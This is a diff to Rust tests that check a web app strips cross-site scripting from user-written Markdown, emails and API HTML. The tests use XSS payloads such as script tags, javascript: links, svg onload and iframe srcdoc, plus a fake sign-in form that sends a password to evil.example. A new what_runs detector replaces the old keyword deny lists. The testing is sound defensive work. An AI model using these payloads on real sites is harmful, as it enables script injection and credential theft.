@@ -22,9 +22,11 @@ const SHORT: &str = "\"><script>pwned=1</script>";
 const MARKDOWN: &str = "[press me](javascript:window.pwned=1) <javascript:window.pwned=1> ![](javascript:window.pwned=1) \
     [data](data:text/html,<script>window.pwned=1</script>) [split](java\nscript:window.pwned=1) [vb](vbscript:window.pwned=1)\n\n\
     <svg onload=window.pwned=1><a xlink:href=\"javascript:window.pwned=1\">svg</a></svg>\n\n\
-    <a href=\"JaVaScRiPt:window.pwned=1\" onclick=\"window.pwned=1\">anchor</a> <iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>\n\n\
+    <a href=\"JaVaScRiPt:window.pwned=1\" onclick=\"window.pwned=1\">anchor</a> \
+    <iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>\n\n\
     <style>main { display: none }</style><div style=\"position:fixed;inset:0\" id=\"main\" class=\"skip\">cover</div>\n\n\
-    <form action=\"https://evil.example/\"><input name=password><button>Sign in</button></form><base href=\"https://evil.example/\">\n\n\
+    <form action=\"https://evil.example/\"><input name=password><button>Sign in</button></form>\
+    <base href=\"https://evil.example/\">\n\n\
     ![picture](https://example.com/track.png) <img src=\"https://example.com/track.png\"> <math><mi>x</mi></math>\n\n\
     </div></main></body><script>window.pwned=1</script> text that is read";
 
@@ -38,19 +40,21 @@ const WHAT_RUNS: &str = "
             const name = attribute.name.toLowerCase();
             const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
             if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(element.outerHTML.slice(0, 200));
-            if (/^(javascript|vbscript|data):/.test(value) && ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)) {
+            const leads = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
+            if (leads && /^(javascript|vbscript|data):/.test(value)) {
                 found.push(element.outerHTML.slice(0, 200));
             }
         }
         const tag = element.tagName.toLowerCase();
         const text = tag === 'script' && element.type === 'application/ld+json';
-        if (tag === 'script' && !text && !(element.src.startsWith(ours + '/assets/'))) found.push(element.outerHTML.slice(0, 200));
-        if (['iframe', 'object', 'embed', 'base', 'math', 'style'].includes(tag)) found.push(element.outerHTML.slice(0, 200));
+        const alien = (tag === 'script' && !text && !element.src.startsWith(ours + '/assets/'))
+            || ['iframe', 'object', 'embed', 'base', 'math', 'style'].includes(tag);
+        if (alien) found.push(element.outerHTML.slice(0, 200));
         if (tag === 'img' && !element.src.startsWith(ours)) found.push(element.outerHTML.slice(0, 200));
         if (tag === 'form' && !element.action.startsWith(ours)) found.push(element.outerHTML.slice(0, 200));
         if (text) JSON.parse(element.textContent);
     }
-    if (document.querySelectorAll('main').length !== 1 || document.querySelectorAll('#main').length !== 1) found.push('a second main');
+    if (document.querySelectorAll('main, #main').length !== 1) found.push('a second main');
     if (getComputedStyle(document.querySelector('main')).display === 'none') found.push('the page is hidden');
     return found;";
 
@@ -59,7 +63,8 @@ async fn is_text(tab: &Tab, texts: &[&str]) {
     let found = tab.script(WHAT_RUNS, vec![]).await;
     assert_eq!(found, json!([]), "{}", tab.path().await);
     let script = "
-        const fields = [...document.querySelectorAll('input, textarea, option:checked')].map(field => field.value ?? field.textContent);
+        const filled = [...document.querySelectorAll('input, textarea, option:checked')];
+        const fields = filled.map(field => field.value ?? field.textContent);
         return [document.title, document.body.textContent, ...fields].join('\\n')";
     let read = tab.script(script, vec![]).await;
     let read = read.as_str().unwrap_or_default();
@@ -67,6 +72,26 @@ async fn is_text(tab: &Tab, texts: &[&str]) {
         assert!(read.contains(text), "{} does not show {text} as it was written: {read:.2000}", tab.path().await);
     }
     tab.is_clean().await;
+}
+
+/// The tags of some HTML that could run, load from elsewhere or send elsewhere.
+fn what_runs(html: &str) -> Vec<&str> {
+    const RUN: [&str; 13] =
+        ["script", "img", "svg", "iframe", "object", "embed", "form", "input", "button", "base", "math", "link", "video"];
+    let tags = html.split('<').skip(1).filter_map(|rest| rest.split('>').next());
+    tags.filter(|tag| {
+        let tag = tag.to_lowercase();
+        let name = tag.split(|c: char| !c.is_alphanumeric()).next().unwrap_or_default();
+        let leads_astray = ["href=\"", "src=\""]
+            .iter()
+            .filter_map(|attribute| Some(tag.split_once(attribute)?.1))
+            .any(|to| !(to.starts_with("http://") || to.starts_with("https://") || to.starts_with("mailto:")));
+        let attributes = tag.split_whitespace().skip(1);
+        RUN.contains(&name)
+            || leads_astray
+            || attributes.into_iter().any(|attribute| attribute.starts_with("on") && attribute.contains('='))
+    })
+    .collect()
 }
 
 async fn location(visitor: &Visitor, path: &str, fields: &[(&str, &str)]) -> String {
@@ -123,11 +148,9 @@ fn nothing_that_people_write_ever_runs() {
         assert!(!letters.is_empty());
         world.server.mail_to("eve@example.com", |mail| mail.text.contains("text that is read")).await;
         for letter in world.server.mails_to("eve@example.com") {
-            let html = letter.text.to_lowercase().find("<html").map(|at| letter.text[at..].to_lowercase()).unwrap_or_default();
-            for bad in ["<script", "<img", "onerror=window", "<svg", "href=\"javascript:"] {
-                let at = html.find(bad);
-                assert!(at.is_none(), "{} in {}", bad, letter.text);
-            }
+            let html = letter.text.find("<html").map(|at| &letter.text[at..]).unwrap_or_default();
+            let found = what_runs(html);
+            assert!(found.is_empty(), "{found:?} in {}", letter.text);
         }
 
         let versions = format!("/p/{id}/versions");
@@ -266,27 +289,10 @@ fn the_html_of_the_api_is_safe_too() {
         let answer = json!({ "status": "planned", "what": MARKDOWN, "who": QUOTES, "next_update_on": soon() });
         let answer = world.put(&world.agent_api, &format!("/posts/{}/answers", post["id"]), &answer).await;
         for html in [&post["body_html"], &comment["body_html"], &answer["what_html"]] {
-            let html = html.as_str().unwrap_or_default().to_lowercase();
+            let html = html.as_str().unwrap_or_default();
             assert!(html.contains("text that is read"), "{html}");
-            for bad in [
-                "<script",
-                "<img",
-                "<svg",
-                "<iframe",
-                "<style",
-                "<form",
-                "<input",
-                "<base",
-                "<math",
-                " onclick",
-                " onload",
-                " style=",
-                "href=\"javascript",
-                "href=\"data",
-                "href=\"vbscript",
-            ] {
-                assert!(!html.contains(bad), "{bad} in {html}");
-            }
+            let found = what_runs(html);
+            assert!(found.is_empty(), "{found:?} in {html}");
         }
         assert_eq!(post["title"], Value::from(BREAKS_OUT));
     });
